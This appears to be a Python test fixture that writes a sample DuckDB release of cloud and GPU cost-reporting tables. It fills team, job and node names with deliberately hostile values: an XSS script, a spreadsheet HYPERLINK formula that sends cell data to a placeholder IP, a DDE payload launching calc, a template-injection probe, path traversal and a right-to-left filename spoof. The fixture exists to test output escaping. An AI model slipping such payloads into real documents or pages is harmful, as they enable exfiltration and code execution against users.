"""A small published release, made by hand: the marts as their contracts declare them.

The names are hostile on purpose: formulas, HTML, quotes, paths, directions, and business units
whose names differ only in what a folder name drops.
"""

import random
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import yaml

MARTS = Path(__file__).parents[2] / "transforms" / "models" / "marts"
SCRIPT = "<script>alert('1')</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://203.0.113.1/?"&A1,"open")'
OWNERS = [
    ("ranking", "Search & Discovery", "CC-100"),
    ("crawl", "Search & Discovery", "CC-101"),
    (FORMULA, SCRIPT, "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-2+3", SCRIPT, "\t=1+1"),
    ("団队 \u202egnp.exe", "研究", "+49 30 123456"),
    ('o\'hara "the" team', "a/../b", "{{ 7*7 }}"),
    ("lower", "alpha", "CC-1"),
    ("upper", "Alpha", "CC-1"),
    ("unallocated", "unallocated", "unallocated"),
]
PERIODS = (date(2026, 9, 1), date(2026, 10, 1))
LOST = ("failed", "node_failed", "preempted", "timed_out", "requeued")
LAST_DAY = date(2026, 10, 3)
CLASSES = ("direct", "idle_held", "shared", "tax", "credit", "commitment_unused")
MODELS = (("none", "none", "none"), ("chat-7b", "chat-7b-eu", "online_inference"))
DERIVED = """
    insert into statement_lines by name
    select
        strftime(billing_period, '%Y-%m') || '-'
        || trim(regexp_replace(lower(business_unit), '[^a-z0-9]+', '-', 'g'), '-') as statement_id,
        billing_period, business_unit, cost_center, team, model, deployment, purpose, cost_class,
        provider, service_name, reporting_currency as currency,
        sum(reporting_effective_cost) as amount,
        sum(reporting_billed_cost) as billed_cost,
        sum(reporting_effective_cost) as effective_cost
    from cost_ledger group by all;

    insert into statements by name
    select
        statement_id, billing_period, business_unit, currency,
        'effective_cost' as charged_measure, 'draft' as status, sum(amount) as total_cost,
        coalesce(sum(amount) filter (cost_class = 'direct'), 0) as direct_cost,
        0 as idle_cost, 0 as shared_cost, 0 as tax_cost, 0 as credit_cost, 0 as other_cost,
        count(*) as line_count
    from statement_lines group by all;

    insert into daily_cost_by_team by name
    select charge_date, business_unit, cost_center, team, cost_class, billing_currency,
        reporting_currency, sum(reporting_billed_cost) as reporting_billed_cost,
        sum(reporting_effective_cost) as reporting_effective_cost
    from cost_ledger group by all;

    insert into daily_cost_by_model by name
    select charge_date, model, deployment, purpose, cost_class, billing_currency,
        reporting_currency, sum(reporting_billed_cost) as reporting_billed_cost,
        sum(reporting_effective_cost) as reporting_effective_cost
    from cost_ledger group by all;

    insert into reconciliation by name
    select provider, billing_account_id, billing_period, billing_currency, measure,
        sum(amount) as delivered,
        coalesce(sum(amount) filter (team <> 'unallocated'), 0) as attributed,
        coalesce(sum(amount) filter (team = 'unallocated'), 0) as unallocated,
        0 as quarantined, 0 as rounded, 0 as difference
    from (
        unpivot (select * from cost_ledger) on billed_cost, effective_cost
        into name measure value amount
    )
    group by all;
"""


def make_release(path: Path, *, charges_only: bool = False, seed: int = 7) -> Path:
    """Write a release; `charges_only` leaves out what needs telemetry or a request log."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with duckdb.connect(path) as connection:
        _create_marts(connection)
        insert(
            connection,
            "runs",
            usage_date=LAST_DAY,
            first_usage_date=PERIODS[0],
            organization_name="Example AG <b>&</b>",
            reporting_currency="EUR",
            statement_measure="effective_cost",
            settings_version="5e8a8df5cdc75690",
            code_version="b8db14f8a33089a6",
        )
        for row in _ledger(random.Random(seed)):  # noqa: S311 - a fixed example
            insert(connection, "cost_ledger", **row)
        connection.execute(DERIVED)
        _describe_quality(connection)
        if not charges_only:
            _find(connection)
            _serve_requests(connection)
            _run_gpus(connection)
            _run_jobs(connection)
            _suggest(connection)
            _commit(connection)
    return path


def insert(connection: duckdb.DuckDBPyConnection, table: str, **values: Any) -> None:
    """Insert a row; columns that are not named stay empty."""
    names, places = ", ".join(values), ", ".join(f"${name}" for name in values)
    connection.execute(f"insert into {table} ({names}) values ({places})", values)


def _create_marts(connection: duckdb.DuckDBPyConnection) -> None:
    """Every mart as a table with the columns of its contract."""
    for file in sorted(MARTS.glob("*.yml")):
        for model in yaml.safe_load(file.read_text(encoding="utf-8"))["models"]:
            columns = ", ".join(f'"{c["name"]}" {c["data_type"]}' for c in model["columns"])
            connection.execute(f"create table {model['name']} ({columns})")
    connection.execute(
        "create table data_quality_results (check_name varchar, suite varchar, subject varchar, "
        "kind varchar, status varchar, failed_row_count bigint, message varchar, sample json)"
    )


def _ledger(source: random.Random) -> list[dict[str, Any]]:
    """Entries of every owner, class and model on three days of two months."""
    entries: list[dict[str, Any]] = []
    for period in PERIODS:
        for number, (team, business_unit, cost_center) in enumerate(OWNERS):
            for place, cost_class in enumerate(CLASSES):
                model, deployment, purpose = MODELS[place % 2]
                amount = Decimal(source.randrange(1, 10**22)).scaleb(-18)
                if cost_class == "credit":
                    amount = -amount / 100
                amount = amount.quantize(Decimal(1).scaleb(-18))
                billed = Decimal(0) if cost_class == "commitment_unused" else amount
                entries.append(
                    {
                        "source_charge_key": f"{period}-{number}-{place}",
                        "usage_date": period + timedelta(days=place % 3),
                        "charge_date": period + timedelta(days=place % 3),
                        "billing_period": period,
                        "provider": ("Example Cloud", "Modelworks")[place % 2],
                        "billing_account_id": "1000",
                        "service_name": "Compute",
                        "team": team,
                        "cost_center": cost_center,
                        "business_unit": business_unit,
                        "model": model,
                        "deployment": deployment,
                        "purpose": purpose,
                        "cost_class": cost_class,
                        "allocation_method": "shared_even"
                        if cost_class == "shared"
                        else "owner_rule",
                        "owner_rule": f"rule-{number}",
                        "billing_currency": "EUR",
                        "reporting_currency": "EUR",
                        "billed_cost": billed,
                        "effective_cost": amount,
                        "reporting_billed_cost": billed,
                        "reporting_effective_cost": amount,
                    }
                )
    return entries


def _describe_quality(connection: duckdb.DuckDBPyConnection) -> None:
    for check, status in (("ledger_balances", "pass"), ("amounts_are_plausible", "warn")):
        insert(
            connection,
            "data_quality_results",
            check_name=check,
            suite="report",
            subject=f"main.{SCRIPT}",
            kind="great_expectations",
            status=status,
            failed_row_count=0,
            message=SCRIPT,
            sample="[]",
        )
    insert(
        connection,
        "quarantine",
        source_name="bill",
        table_name="focus_charges",
        object_row=4,
        reason_code="BAD_NUMBER",
        message=f'"{SCRIPT}" is not a decimal number.',
        billing_currency="EUR",
    )
    for name, last in (
        ("bill", LAST_DAY),
        ("gateway", LAST_DAY - timedelta(days=2)),
        ("own", None),
    ):
        insert(
            connection,
            "source_freshness",
            source_name=name,
            table_count=1,
            first_usage_date=last and PERIODS[0],
            last_usage_date=last,
            partition_count=3,
            row_count=1234,
        )


def _find(connection: duckdb.DuckDBPyConnection) -> None:
    for day in (LAST_DAY, LAST_DAY - timedelta(days=1)):
        insert(
            connection,
            "attribution_findings",
            usage_date=day,
            finding="telemetry_gap",
            subject=SCRIPT,
            quantity_seconds=Decimal(5400),
            reporting_currency="EUR",
            reporting_billed_cost=Decimal("7.25"),
            reporting_effective_cost=Decimal("7.25"),
            action="Look at the exporter.",
        )
    insert(
        connection,
        "adjustments",
        billing_period=PERIODS[1],
        adjusted_period=PERIODS[0],
        provider="AWS",
        currency="EUR",
        reason="restated",
        billed_cost=Decimal("-12.345"),
        effective_cost=Decimal("-12.345"),
    )


def _serve_requests(connection: duckdb.DuckDBPyConnection) -> None:
    for number in range(12):
        insert(
            connection,
            "request_costs",
            request_id=f"{SCRIPT}{number}",
            started_at=datetime(2026, 10, 3, 8, number),  # noqa: DTZ001 - UTC, stored without a zone
            usage_date=LAST_DAY,
            team=FORMULA,
            model="chat-7b",
            deployment="chat-7b-eu",
            hosting="self_hosted",
            purpose="online_inference",
            input_tokens=1000 * number,
            cache_read_input_tokens=0,
            cache_creation_input_tokens=0,
            output_tokens=200,
            status="ok",
            reporting_currency="EUR",
            billed_cost=Decimal("0.01") * number,
            effective_cost=Decimal("0.01") * number,
            reporting_billed_cost=Decimal("0.01") * number,
            reporting_effective_cost=Decimal("0.01") * number,
            idle_effective_cost=Decimal(0),
            reporting_idle_effective_cost=Decimal(0),
            cost_status="priced",
        )
    insert(
        connection,
        "daily_unit_economics",
        usage_date=LAST_DAY,
        team=FORMULA,
        model="chat-7b",
        deployment="chat-7b-eu",
        request_count=12,
        failed_count=0,
        input_tokens=66_000,
        cache_read_input_tokens=0,
        output_tokens=2400,
        reporting_currency="EUR",
        reporting_effective_cost=Decimal("0.66"),
        reporting_direct_cost=Decimal("0.66"),
        cost_per_request=Decimal("0.055"),
        cost_per_1k_requests=Decimal(55),
        cost_per_million_tokens=Decimal("9.649122807017543860"),
        marginal_cost_per_1k_requests=Decimal(55),
    )
    for scope, name in (("organization", "Example AG"), ("team", FORMULA), ("deployment", SCRIPT)):
        insert(
            connection,
            "unit_economics",
            usage_date=LAST_DAY,
            scope=scope,
            scope_name=name,
            request_count=12,
            input_tokens=66_000,
            output_tokens=2400,
            held_gpu_seconds=Decimal(7200),
            busy_gpu_seconds=Decimal(3600),
            reporting_currency="EUR",
            reporting_effective_cost=Decimal("0.66"),
            reporting_direct_cost=Decimal("0.33"),
            reporting_overhead_cost=Decimal("0.11"),
            gpu_cost=Decimal("0.66"),
            cost_per_million_tokens=Decimal("9.649122807017543860"),
            marginal_cost_per_million_tokens=Decimal("4.824561403508771930"),
            fully_loaded_cost_per_million_tokens=Decimal("11.257309941520467836"),
        )


def _run_gpus(connection: duckdb.DuckDBPyConnection) -> None:
    for offset in range(3):
        for node, gpu_model, gpus in (("node-1", "H100 SXM", 8), (SCRIPT, "L4", 2)):
            capacity = Decimal(gpus * 86_400)
            insert(
                connection,
                "gpu_utilization_daily",
                usage_date=PERIODS[1] + timedelta(days=offset),
                node=node,
                gpu_model=gpu_model,
                gpu_count=gpus,
                capacity_gpu_seconds=capacity,
                held_gpu_seconds=capacity * Decimal("0.75"),
                active_gpu_seconds=capacity * Decimal("0.5"),
                unheld_gpu_seconds=capacity * Decimal("0.25"),
            )


def _run_jobs(connection: duckdb.DuckDBPyConnection) -> None:
    for number, outcome in enumerate(("completed", "node_failed", "running")):
        cost = Decimal("100.005") * (number + 1)
        held = Decimal(3600 * (number + 1))
        named = {
            "scheduler": "slurm",
            "cluster": "hall",
            "job_id": f"{SCRIPT}{number}",
            "job_name": SCRIPT,
            "user_name": FORMULA,
            "team": FORMULA,
            "purpose": "training",
            "reporting_effective_cost": cost,
            "held_gpu_seconds": held,
        }
        insert(connection, "job_runs", attempt="a", run_number=1, outcome=outcome, **named)
        lost = {f"{name}_cost": Decimal(0) for name in LOST}
        lost["node_failed_cost"] = cost if outcome == "node_failed" else Decimal(0)
        insert(
            connection,
            "job_costs",
            run_count=1,
            gpu_count=8,
            reporting_idle_cost=Decimal(1),
            goodput_ratio=None if outcome == "running" else Decimal(number == 0),
            **lost,
            **named,
        )
    insert(
        connection,
        "daily_cost_by_user",
        usage_date=LAST_DAY,
        user_name=FORMULA,
        team=FORMULA,
        cost_class="direct",
        reporting_effective_cost=Decimal("600.03"),
    )


def _suggest(connection: duckdb.DuckDBPyConnection) -> None:
    for rank, (lever, before, alone, saved) in enumerate(
        (("unheld_nodes", 900, 200, 200), ("idle_gpus", 700, 300, 250))
    ):
        insert(
            connection,
            "savings_waterfall",
            waterfall_rank=rank,
            lever=lever,
            currency="EUR",
            baseline_cost=Decimal(before),
            saving_alone=Decimal(alone),
            saving_incremental=Decimal(saved),
            optimized_cost=Decimal(before - saved),
        )
    insert(
        connection,
        "optimization_opportunities",
        as_of_date=LAST_DAY,
        lever="idle_gpus",
        scope=f"workload {SCRIPT}",
        team=FORMULA,
        owner="o'hara@example.com",
        currency="EUR",
        baseline_cost=Decimal("900.123456789012345678"),
        optimized_cost=Decimal("600.123456789012345678"),
        saving_low=Decimal(200),
        saving_expected=Decimal(300),
        saving_high=Decimal(400),
        confidence="high",
        evidence_query=f"select * from workload_costs where workload = '{SCRIPT}'",
        evidence_row_count=24,
        assumptions='{"idle_window_hours": 1}',
        action=f"Scale {SCRIPT} down.",
        effort="M",
        risk="reversible",
        valid_from=PERIODS[0],
        valid_to=LAST_DAY,
        status="new",
    )


def _commit(connection: duckdb.DuckDBPyConnection) -> None:
    """A plan at two levels and under stress, how sure it is, what ends, and a converted bill."""
    plan = {
        "provider": "AWS",
        "billing_currency": "USD",
        "plan_name": f"plan {SCRIPT}",
        "term_months": 12,
        "payment_option": "All Upfront",
    }
    for level, scenario, saving in (
        ("recommended", "as known", "500.004"),
        ("recommended", "use half", "-70.5"),
        ("conservative", "as known", "450"),
    ):
        insert(
            connection,
            "commitment_plans",
            **plan,
            level_name=level,
            scenario=scenario,
            commitment_per_hour_cost=Decimal(3 if level == "recommended" else 2),
            coverage=Decimal("0.9"),
            commitment_utilization=Decimal("0.96"),
            saving=Decimal(saving),
            net_present_saving=Decimal("4000.125"),
            offer_source="price list",
        )
    insert(
        connection,
        "commitment_checks",
        **plan,
        level_name="recommended",
        commitment_low_per_hour_cost=Decimal("2.5"),
        commitment_high_per_hour_cost=Decimal(4),
        saving_low=Decimal(410),
        saving_high=Decimal(590),
        saving_backtest_actual=Decimal(150),
        saving_backtest_hindsight=Decimal(170),
        upfront_annual_return=Decimal("0.11"),
        payment_rank=1,
        confidence="medium",
    )
    insert(
        connection,
        "commitment_expiries",
        contract_commitment_id="contract-7",
        contract_commitment_cost=Decimal("1200.5"),
        billing_currency="USD",
        contract_commitment_period_end=date(2026, 11, 1),
        days_left=29,
        is_due=True,
    )
    for rate, rounding in (("1.0791", "0.4"), ("1.0912", "-0.1")):
        insert(
            connection,
            "currency_conversions",
            provider="AWS",
            billing_period=PERIODS[1],
            billing_currency="USD",
            measure="billed_cost",
            exchange_rate=Decimal(rate),
            cost=Decimal(100),
            reporting_cost=Decimal(108),
            conversion_rounding=Decimal(rounding).scaleb(-18),
        )
